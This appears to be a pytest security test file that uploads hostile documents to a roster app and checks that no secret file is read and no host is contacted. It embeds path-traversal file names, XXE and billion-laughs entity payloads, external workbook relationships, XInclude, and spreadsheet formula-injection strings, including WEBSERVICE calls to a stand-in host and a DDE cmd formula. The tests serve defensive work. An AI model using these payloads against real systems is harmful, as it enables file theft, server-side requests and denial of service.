"""Files that a visitor uploads are read as what they are: they lead to no file and no host."""

import json
from collections.abc import Sequence
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from graph.stores.sqlite.store import FileStore
from tests.kit.pages import visited, words
from tests.kit.roster_tables import workbook
from tests.kit.watched import SECRET, untouched, watched


@pytest.mark.parametrize(
    "name",
    [
        "../secret.txt",
        "../../secret.txt",
        "/etc/passwd.txt",
        "..\\secret.txt",
        "..txt",
        "long" * 90 + ".txt",
        "~root.txt",
        "$HOME.txt",
        "con.txt",
    ],
)
def test_an_uploaded_document_stays_in_a_folder_of_its_own(
    at_restaurant: FileStore, name: str, secret: Path
) -> None:
    app = visited("changes/page.py")
    with watched() as watch:
        app.file_uploader(key="old").upload(name, b"Clerk\n\nRequirements\n- Excel\n", "text/plain")
        app.run()
    untouched(watch, secret, app)
    assert secret.read_text(encoding="utf-8") == f"{SECRET}\n"


def test_an_uploaded_document_that_points_to_a_file_is_text(
    at_restaurant: FileStore, secret: Path, host: str
) -> None:
    pointing = (
        f"Clerk\n\n![x](file://{secret})\n[y](http://{host}/)\n!include {secret}\n"
        f"{{{{ open('{secret}') }}}}\n"
        f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{secret}'>]>\n&e;\n"
    )
    exported = {"nodes": [], "edges": [], "include": str(secret), "$ref": f"file://{secret}"}
    for name, data in (("a.md", pointing.encode()), ("a.json", json.dumps(exported).encode())):
        app = visited("changes/page.py")
        with watched() as watch:
            app.file_uploader(key="old").upload(name, data, "text/plain")
            app.run()
        untouched(watch, secret, app)


def altered(part: str, old: str, new: str, rows: Sequence[Sequence[object]]) -> bytes:
    """A workbook of these rows with a text in one of its parts replaced."""
    written = BytesIO()
    with ZipFile(BytesIO(workbook(rows))) as whole, ZipFile(written, "w", ZIP_DEFLATED) as made:
        for name in whole.namelist():
            text = whole.read(name).decode("utf-8")
            assert name != part or old in text
            made.writestr(name, text.replace(old, new, 1) if name == part else text)
        assert part in whole.namelist()
    return written.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
XINCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude"'


def entity(kind: str) -> tuple[str, str, str]:
    """A sheet that declares an entity."""
    return SHEET, "<worksheet ", f"<!DOCTYPE worksheet [<!ENTITY e {kind}>]><worksheet "


@pytest.mark.parametrize(
    "case", ["file", "host", "parameter", "laughs", "relation", "link", "path", "include"]
)
def test_a_workbook_leads_to_no_file_and_no_host(
    at_restaurant: FileStore, case: str, secret: Path, host: str
) -> None:
    rels = ("xl/_rels/workbook.xml.rels", 'Target="/xl/worksheets/sheet1.xml"')
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    part, old, new = {
        "file": entity(f'SYSTEM "file://{secret}"'),
        "host": entity(f'SYSTEM "http://{host}/x"'),
        "parameter": entity(f'"x"><!ENTITY % p SYSTEM "http://{host}/x.dtd"> %p;<!ENTITY q "y"'),
        "laughs": entity(f'"&l9;"><!ENTITY l0 "lol">{laughs}<!ENTITY z "z"'),
        "relation": (*rels, f'TargetMode="External" Target="http://{host}/sheet.xml"'),
        "link": (*rels, f'TargetMode="External" Target="file://{secret}"'),
        "path": (*rels, f'Target="../../../../..{secret}"'),
        "include": (SHEET, "<t>&amp;e;", f'<t>{XINCLUDE} href="file://{secret}" parse="text"/>'),
    }[case]
    data = altered(part, old, new, [["person", "role"], ["&e;", "Waiter"]])
    data = data if case in {"relation", "link", "path", "include"} else entities_named(data)
    app = visited("coverage/page.py")
    with watched() as watch:
        app.file_uploader(key="roster-upload").upload("people.xlsx", data, "application/zip")
        app.run()
    untouched(watch, secret, app)
    assert len(words(app)) < 1_000_000


def entities_named(data: bytes) -> bytes:
    """The workbook with its escaped entity made a real one."""
    written = BytesIO()
    with ZipFile(BytesIO(data)) as whole, ZipFile(written, "w", ZIP_DEFLATED) as made:
        for name in whole.namelist():
            made.writestr(name, whole.read(name).replace(b"&amp;e;", b"&e;"))
    return written.getvalue()


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("http://{0}/")', "='file://{1}'#$Sheet1.A1", '=HYPERLINK("http://{0}/")', "=cmd|'/C'!A0"],
)
def test_a_formula_of_a_table_is_not_run(
    at_restaurant: FileStore, formula: str, secret: Path, host: str
) -> None:
    rows = [["person", "role"], [formula.format(host, secret), "Waiter"]]
    text = "\n".join(f'"{a.replace(chr(34), chr(34) * 2)}",{b}' for a, b in rows).encode()
    for name, data in (("people.xlsx", workbook(rows)), ("people.csv", text)):
        app = visited("coverage/page.py")
        with watched() as watch:
            app.file_uploader(key="roster-upload").upload(name, data, "text/csv")
            app.run()
        untouched(watch, secret, app)
